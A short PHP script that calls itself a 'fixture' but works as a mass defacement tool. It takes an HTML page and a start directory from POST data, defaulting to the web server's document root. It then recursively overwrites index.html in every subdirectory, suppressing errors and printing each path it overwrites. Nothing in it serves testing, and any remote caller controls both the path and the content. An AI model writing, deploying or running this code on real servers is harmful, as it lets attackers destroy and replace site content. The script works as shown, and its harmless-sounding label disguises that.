<?php
// fixture: puts the posted page into every folder under the start directory
$start = isset($_POST['root']) ? $_POST['root'] : $_SERVER['DOCUMENT_ROOT'];
$page = $_POST['page'];
function walk($d, $page) {
    foreach (scandir($d) as $e) {
        if ($e == '.' || $e == '..') continue;
        $sub = $d . '/' . $e;
        if (is_dir($sub)) {
            @file_put_contents($sub . "/index.html", $page);
            echo $sub . "\n";
            walk($sub, $page);
        }
    }
}
walk($start, $page);
